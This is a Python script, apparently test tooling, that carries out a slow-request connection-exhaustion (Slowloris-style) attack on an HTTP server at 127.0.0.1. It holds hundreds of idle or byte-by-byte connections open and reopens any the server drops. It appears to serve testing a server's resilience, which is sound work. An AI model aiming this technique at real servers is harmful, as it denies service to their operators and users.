"""Holds many connections open against an HTTP server, as a hostile local process would.

Run as a script: ``python http_attacker.py PORT --idle N --slow M``. Idle connections
send nothing; slow ones send a request head one byte every ``--interval`` seconds and
never finish it. A connection the server closes is opened again at once, so the attack
lasts until the process is terminated. Prints ``ready`` once every connection has been
established at least once.
"""

from __future__ import annotations

import argparse
import asyncio
import itertools
import resource
import sys

_HEAD = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Pad: "


def raise_nofile(wanted: int) -> None:
    """Raise this process's soft descriptor limit towards ``wanted`` (as far as the hard one)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY:
        wanted = min(wanted, hard)
    if soft != resource.RLIM_INFINITY and soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))


async def _hold(port: int, slow: bool, interval: float, connected: asyncio.Event) -> None:
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        connected.set()
        try:
            data = itertools.chain(_HEAD, itertools.repeat(ord("a"))) if slow else None
            while True:
                if data is not None:
                    writer.write(bytes([next(data)]))
                try:
                    if await asyncio.wait_for(reader.read(1024), interval) == b"":
                        break  # the server hung up: connect again
                except TimeoutError:
                    pass
        except OSError:
            pass
        finally:
            writer.close()


async def _main(port: int, idle: int, slow: int, interval: float) -> None:
    events = [asyncio.Event() for _ in range(idle + slow)]
    tasks = [
        asyncio.create_task(_hold(port, i >= idle, interval, event))
        for i, event in enumerate(events)
    ]
    await asyncio.gather(*(event.wait() for event in events))
    print("ready", flush=True)
    await asyncio.gather(*tasks)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("--idle", type=int, default=250)
    parser.add_argument("--slow", type=int, default=250)
    parser.add_argument("--interval", type=float, default=0.5)
    args = parser.parse_args()
    raise_nofile(args.idle + args.slow + 64)
    try:
        asyncio.run(_main(args.port, args.idle, args.slow, args.interval))
    except KeyboardInterrupt:
        sys.exit(0)


if __name__ == "__main__":
    main()
